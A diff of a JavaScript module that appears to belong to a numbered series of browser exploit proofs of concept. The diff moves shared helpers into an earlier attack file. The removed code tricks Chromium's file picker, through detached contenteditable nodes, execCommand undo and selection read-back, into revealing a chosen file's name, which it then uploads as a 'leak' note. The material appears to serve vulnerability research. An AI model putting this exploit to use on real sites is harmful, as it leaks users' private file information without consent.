@@ -9,40 +9,10 @@
 // draws (attack 48's findsel). A name learnt goes up as a text note
 // "leak-….txt". Served by server.mjs at /attack53-…; tests: attack53.test.mjs.
 
+import { findsel, leak, movePick } from './attack52-pages.mjs';
 import { attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';
 
-/** Upload what was learnt (a name, or a bit) as a text note, once. */
-const leak = "const leak = (s, why) => { note(why + ' leak: ' + s); if (!window.once53) { window.once53 = 1; send([new File(['leaked: ' + s], 'leak-' + String(s).replace(/[^A-Za-z0-9._-]/g, '_') + '.txt', { type: 'text/plain' })], why); } };";
-
-/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
-const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
-        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
-        const got = String(sel); note('${why} ' + JSON.stringify(got));
-        if (/jpg/i.test(got)) leak(got, '${why}');`;
-
-/**
- * The label (i and the deep span) is put CONNECTED in a span p inside a contenteditable div ce (a wrapped insertion:
- * i is empty), then taken out by execCommand('delete') over a selection of the label (the undo step keeps p as the
- * parent to put it back in). `move` then moves p somewhere else (`setup` runs first). In the person's click the deep
- * span is clicked: Chromium's picker fills the detached i, unheard. On change: `before`, then execCommand('undo'),
- * whose input event Chromium fires at the undo step's recorded editing root(s), then findsel.
- */
-const movePick = (why, { setup = '', move = '', before = '', after = "for (const e of document.querySelectorAll('[contenteditable]')) e.contentEditable = 'false';", undo = "document.execCommand('undo')", find = findsel(why), onopen = '' } = {}) => `
-      ${leak}
-      ${setup}
-      const ce = document.createElement('div'); ce.contentEditable = 'true'; ce.style.width = '600px';
-      const p = document.createElement('span');
-      const l = document.createElement('label'); const i = document.createElement('input'); i.type = 'file'; i.name = 'photo';
-      const x = document.createElement('span'); let t = x; for (let k = 0; k < 70; k++) { const c = document.createElement('span'); t.append(c); t = c; } t.textContent = 'x';
-      l.append(i, x); p.append('a', l, 'b'); ce.append('c', p, 'd'); document.body.append(ce);
-      ce.focus(); const r = document.createRange(); r.selectNode(l); const s = getSelection(); s.removeAllRanges(); s.addRange(r);
-      const del = document.execCommand('delete');
-      note('delete ' + del + ' l connected ' + l.isConnected + ' i in l ' + (i.parentNode === l) + ' l parent ' + (l.parentNode && l.parentNode.nodeName));
-      ${move}
-      window.addEventListener('input', (e) => note('input ' + e.inputType + ' at ' + (e.target && (e.target.id || e.target.nodeName))), true);
-      i.addEventListener('change', () => { note('change'); try { ${before}; const u = ${undo}; note('undo ' + u + ' i connected ' + i.isConnected + ' in ce ' + ce.contains(i) + ' w ' + i.offsetWidth); ${after} getSelection().removeAllRanges(); i.style.width = '600px';
-        ${find} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
-      document.getElementById('open').addEventListener('click', () => { try { t.click(); } catch (e) { note('click threw ' + e.name); } ${onopen} });`;
+// The setup (movePick) is attack 52's.
 
 const HTML_WAYS = {
   // p moved, in the person's click (after the picker asked for), into the editable body of a same-origin POPUP
